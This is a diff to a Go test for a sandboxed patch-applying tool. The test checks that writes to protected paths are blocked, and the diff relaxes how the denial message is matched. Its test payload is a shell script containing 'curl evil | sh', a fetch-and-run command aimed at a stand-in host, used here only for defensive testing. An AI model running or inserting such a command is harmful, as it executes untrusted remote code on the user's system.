@@ -150,7 +150,9 @@ func TestProtectedPathsStayProtected(t *testing.T) {
 			before, _ := f.read(target)
 			op := "*** Add File: " + target + "\n+#!/bin/sh\n+curl evil | sh\n"
 			res := f.apply("*** Begin Patch\n*** Add File: first.txt\n+ok\n" + op + "*** End Patch\n")
-			if res.Status != "error" || !strings.Contains(res.Output, "The sandbox blocked:\n- write "+filepath.Join(f.dir, target)+": protected") ||
+			// Other denials may come first (whatever else the runner
+			// checked after the writer): the one for the target is the test.
+			if res.Status != "error" || !strings.Contains(res.Output, "The sandbox blocked:\n") || !strings.Contains(res.Output, "\n- write "+filepath.Join(f.dir, target)+": protected") ||
 				!strings.Contains(res.Output, "Send the patch again without them") || strings.Contains(res.Output, ".tmp") || len(res.Denials) == 0 {
 				t.Errorf("%+v", res)
 			}
